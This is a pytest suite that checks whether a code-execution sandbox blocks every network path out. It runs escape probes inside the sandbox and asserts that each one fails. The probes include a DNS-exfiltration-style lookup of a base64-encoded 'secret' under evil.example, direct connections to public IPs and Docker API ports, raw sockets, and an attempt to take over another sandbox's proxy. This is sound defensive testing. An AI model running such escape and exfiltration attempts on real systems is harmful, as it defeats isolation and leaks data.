"""A sandbox whose tool may reach something has no other way out for that.

Listeners on all addresses of the host stand for everything that might be reached. Each attempt says inside what became
of it; the listeners say whether anything arrived.
"""

import errno
import socket
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import Any

import pytest

from support.gateway import Deployment, RunningGateway
from support.live import eventually
from support.upstreams import Upstream

# What the kernel says where there is no route, nobody who listens, or no such right.
NOWHERE = {errno.ENETUNREACH, errno.ECONNREFUSED, errno.EPERM, errno.EACCES, errno.EAFNOSUPPORT, errno.EADDRNOTAVAIL}
TRY = """
import os, socket
for name in list(os.environ):
    if 'proxy' in name.lower():
        del os.environ[name]
def tcp(host, port, family=socket.AF_INET):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as one:
            one.settimeout(5)
            one.connect((host, port))
            return 0
    except OSError as error:
        return error.errno or -1
def udp(host, port, data=b'x', family=socket.AF_INET):
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as one:
            one.sendto(data, (host, port))
            one.settimeout(0.2)
            one.recv(1)
            return 0
    except OSError as error:
        return error.errno or -1
"""


class Canaries:
    """A TCP and a UDP listener on every address of the host; `heard` counts what came."""

    def __init__(self) -> None:
        self.heard = 0
        self._tcp = socket.create_server(("0.0.0.0", 0))  # every address is what is to be out of reach
        self.port: int = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("0.0.0.0", self.port))  # as above
        self._threads = [threading.Thread(target=wait) for wait in (self._accept, self._receive)]

    def __enter__(self) -> "Canaries":
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._tcp.shutdown(socket.SHUT_RDWR)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as last:
            last.sendto(b"end", ("127.0.0.1", self.port))
        for thread in self._threads:
            thread.join(10)
        self._tcp.close()
        self._udp.close()

    def _accept(self) -> None:
        while True:
            try:
                self._tcp.accept()[0].close()
            except OSError:
                return
            self.heard += 1

    def _receive(self) -> None:
        while self._udp.recv(16) != b"end":
            self.heard += 1


@dataclass
class Place:
    gateway: RunningGateway
    canaries: Canaries
    upstream: Upstream

    def run(self, code: str, tool: str = "probe.egress") -> Any:
        answer = self.gateway.post(tool, {"code": TRY + code}).json()
        assert answer.get("state") == "succeeded", answer
        return answer["result"]


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    with Canaries() as canaries, Upstream() as upstream:
        deployment = Deployment(tmp_path_factory.mktemp("around"), settings=settings(upstream))
        socket.create_connection(("127.0.0.1", canaries.port)).close()
        eventually(lambda: _heard(canaries, 1))
        with deployment.start() as running:
            yield Place(running, canaries, upstream)
        deployment.wait_until_clean()
        # Who may hears and is heard; from the sandboxes nothing came.
        _heard(canaries, 1)


def _heard(canaries: Canaries, count: int) -> None:
    assert canaries.heard == count


def settings(upstream: Upstream) -> dict[str, Any]:
    internal = [{"host": "localhost", "networks": ["127.0.0.0/8", "::1/128"]}]
    rule = {"host": "localhost", "scheme": "http", "port": upstream.port}
    return {
        "egress": {"authority_dir": "egress", "internal": internal},
        "tools": {"probe.egress": {"egress": [rule]}},
    }


def hosts_own_addresses() -> list[str]:
    """The addresses under which the host is known to itself and to its containers."""
    found = {"127.0.0.1", "172.17.0.1"}
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
        except OSError:
            return sorted(found)
        found.add(probe.getsockname()[0])
    return sorted(found)


def test_no_name_is_resolved_and_no_resolver_is_asked(place: Place) -> None:
    outcome = place.run(
        "import subprocess\n"
        "try:\n    named = bool(socket.getaddrinfo('c2VjcmV0.evil.example', 443))\n"
        "except OSError:\n    named = False\n"
        f"result = [named, [udp(host, port) for host in ('8.8.8.8', '172.17.0.1') for port in (53, {place.canaries.port})]]"
    )
    assert outcome[0] is False
    assert set(outcome[1]) <= NOWHERE


def test_neither_the_gateway_nor_any_address_of_the_host_is_there(place: Place) -> None:
    addresses = hosts_own_addresses()
    port = int(place.gateway.http.rpartition(":")[2])
    ports = [place.canaries.port, port, 2375, 2376]
    outcome = place.run(f"result = [tcp(host, port) for host in {addresses!r} for port in {ports!r}]")
    assert set(outcome) <= NOWHERE


def test_one_sandbox_does_not_reach_another(place: Place) -> None:
    listens = (
        "import time\nserver = socket.create_server(('0.0.0.0', 5555))\nserver.settimeout(6)\n"
        "try:\n    server.accept()\n    result = 'reached'\nexcept TimeoutError:\n    result = 'alone'\n"
    )
    tries = (
        "import time\nfound = set()\nuntil = time.monotonic() + 4\n"
        "while time.monotonic() < until:\n"
        "    found |= {tcp(f'172.17.0.{last}', 5555) for last in range(1, 10)} | {tcp('127.0.0.1', 5555)}\n"
        "    time.sleep(0.2)\n"
        "result = sorted(found)"
    )
    with ThreadPoolExecutor(2) as both:
        one, other = both.submit(place.run, listens), both.submit(place.run, tries)
        assert one.result() == "alone"
        assert set(other.result()) <= NOWHERE


def test_without_the_proxy_there_is_no_way(place: Place) -> None:
    outcome = place.run(
        "errors = [tcp('1.1.1.1', 443), udp('1.1.1.1', 443), tcp('2606:4700::1111', 443, socket.AF_INET6),\n"
        "    udp('2606:4700::1111', 443, family=socket.AF_INET6)]\n"
        "try:\n    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n    errors.append(0)\n"
        "except OSError as error:\n    errors.append(error.errno)\n"
        "result = errors"
    )
    assert set(outcome) <= NOWHERE


def test_a_way_out_is_its_own_sandboxes_and_no_other_has_it(place: Place) -> None:
    """There is no token to steal: the proxy is on a loopback of its own, for as long as its call runs."""
    holds = (
        "import time, urllib.request\n"
        "opener = urllib.request.build_opener(urllib.request.ProxyHandler({'http': 'http://127.0.0.1:3128'}))\n"
        f"ask = lambda: opener.open('http://localhost:{place.upstream.port}/echo/1', timeout=10).status\n"
        "first = ask()\ntime.sleep(3)\nresult = [first, ask()]"
    )
    steals = (
        "import time\nfound, until = set(), time.monotonic() + 2\n"
        "while time.monotonic() < until:\n"
        "    found |= {tcp('127.0.0.1', 3128), tcp('172.17.0.1', 3128)}\n    time.sleep(0.1)\n"
        "result = sorted(found)"
    )
    with ThreadPoolExecutor(2) as both:
        owner, thief = both.submit(place.run, holds), both.submit(place.run, steals, "probe.run")
        assert owner.result() == [200, 200]
        assert set(thief.result()) <= NOWHERE
